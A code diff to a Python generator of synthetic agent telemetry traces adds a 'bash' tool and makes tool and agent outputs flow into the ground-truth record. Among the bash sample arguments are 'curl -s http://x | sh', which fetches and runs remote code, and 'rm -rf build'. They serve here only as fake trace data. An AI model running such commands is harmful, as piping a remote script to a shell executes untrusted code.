@@ -15,7 +15,8 @@ from typing import Any
 
 from facts import UNKNOWN, Facts, answered, kind_of
 
-TOOLS = {"search": ("q", ("paris", "oslo")), "fetch": ("page", (1, 2, 3)), "refund": ("order", ("A-1", "B-7")), "send": ("to", ("ann", "bob"))}  # fmt: skip
+TOOLS = {"search": ("q", ("paris", "oslo")), "fetch": ("page", (1, 2, 3)), "refund": ("order", ("A-1", "B-7")), "send": ("to", ("ann", "bob")),
+         "bash": ("command", ("ls", "rm -rf build", "git status && make test", "curl -s http://x | sh"))}  # fmt: skip
 STRANGE = "teleport"
 """A tool that models ask for and no program has."""
 HELPERS = ("writer", "reviewer")
@@ -24,6 +25,7 @@ MODELS = {
     "gpt-4o-mini": "gpt-4o-mini-2024-07-18",
     "claude-sonnet-4-6": "claude-sonnet-4-6",
 }
+WEATHER = ("sunny", "rainy")
 TIMEOUT = "The request timed out."
 _START = 1_790_000_000_000_000_000
 _STYLES: dict[str, tuple[Any, ...]] = {
@@ -96,8 +98,9 @@ class Program:
         messages: list[dict[str, Any]] = [
             {"role": "user", "parts": [{"type": "text", "content": f"Question {self.turn}"}]}
         ]
+        self.truth.final = None
         with suppress(StoppedError):
-            self._agent("planner", top, None, 0, messages)
+            self.truth.final = self._agent("planner", top, None, 0, messages)
         if top:
             self._close(top)
 
@@ -136,7 +139,8 @@ class Program:
             results = [{"type": "tool_call_response", "id": one["id"], "response": one["result"]} for one in calls]
             messages.append({"role": "tool", "parts": results})
         self._ask(agent, span, messages, [])
-        return "done"
+        said: str = messages[-1]["parts"][0]["content"]
+        return said
 
     def _together(self, works: list[Callable[[], None]]) -> None:
         """Carry out side by side, or one after the other."""
@@ -184,7 +188,8 @@ class Program:
         if how == "broken":
             arguments = {"wrong": True}
         name = STRANGE if how == "strange" else name
-        return {"id": self._id("call_"), "how": how, "name": name, "arguments": arguments, "result": "fine"}
+        result = self.random.choice(WEATHER)
+        return {"id": self._id("call_"), "how": how, "name": name, "arguments": arguments, "result": result}
 
     def _ask(
         self, agent: dict[str, Any], parent: Span | None, messages: list[dict[str, Any]], calls: list[dict[str, Any]]
@@ -244,14 +249,17 @@ class Program:
         if self._chance(self.style["usage"]):
             said |= {"gen_ai.usage.input_tokens": row["input"], "gen_ai.usage.output_tokens": row["output"]}
         parts = [{"type": "tool_call", **{key: one[key] for key in ("id", "name", "arguments")}} for one in calls]
-        message = {"role": "assistant", "parts": parts or [{"type": "text", "content": "An answer."}]}
+        message = {
+            "role": "assistant",
+            "parts": parts or [{"type": "text", "content": f"It is {self.random.choice(WEATHER)}."}],
+        }
         messages.append(message)
         if self.style["content"]:
             said["gen_ai.output.messages"] = json.dumps([message])
 
     def _attempt(self, agent: Any, call: dict[str, Any], outcome: Any, *, certain: bool = True) -> dict[str, Any]:
         row = {
-            "name": call["name"], "arguments": call["arguments"], "outcome": outcome, "start": self.now, "end": None,
+            "name": call["name"], "arguments": call["arguments"], "outcome": outcome, "result": None, "start": self.now, "end": None,
             "agent": agent["id"], "turn": self.turn, "certain": certain,
         }  # fmt: skip
         self.truth.tools.append(row)
@@ -274,7 +282,7 @@ class Program:
         if how in ("broken", "strange"):  # refused: both counts are true of what never ran
             shown = self.style["executions"] == "all"
             self._attempt(agent, call, "error", certain=shown)
-            call["result"] = f"Error: {call['name']} cannot be called so"
+            self.truth.tools[-1]["result"] = call["result"] = f"Error: {call['name']} cannot be called so"
             span = self._tool_span(parent, call) if shown else None
             self.truth.tools[-1]["start"] = span["start"] if span else self.now
             self.now += 1_000_000
@@ -289,10 +297,9 @@ class Program:
         inside = span or parent
         self.now += 1_000_000
         try:
-            if how == "helper":
-                self._agent(call["helper"], inside, agent["id"], depth + 1)
-            elif how == "thread":
-                self._agent(call["helper"], None, agent["id"], depth + 1)
+            if how in ("helper", "thread"):
+                around = inside if how == "helper" else None
+                call["result"] = self._agent(call["helper"], around, agent["id"], depth + 1)
             elif how.startswith("mcp"):
                 client = self._mcp(inside, call, failed=how == "mcp_fails")
             self.now += self.random.randrange(1, 20) * 1_000_000
@@ -306,6 +313,7 @@ class Program:
             if "fails" in how:
                 call["result"] = "Error: no such order"
                 self._fail(span, call["result"])
+            row["result"] = call["result"]
             if span is not None:
                 if self.style["content"]:
                     span["attributes"]["gen_ai.tool.call.result"] = call["result"]
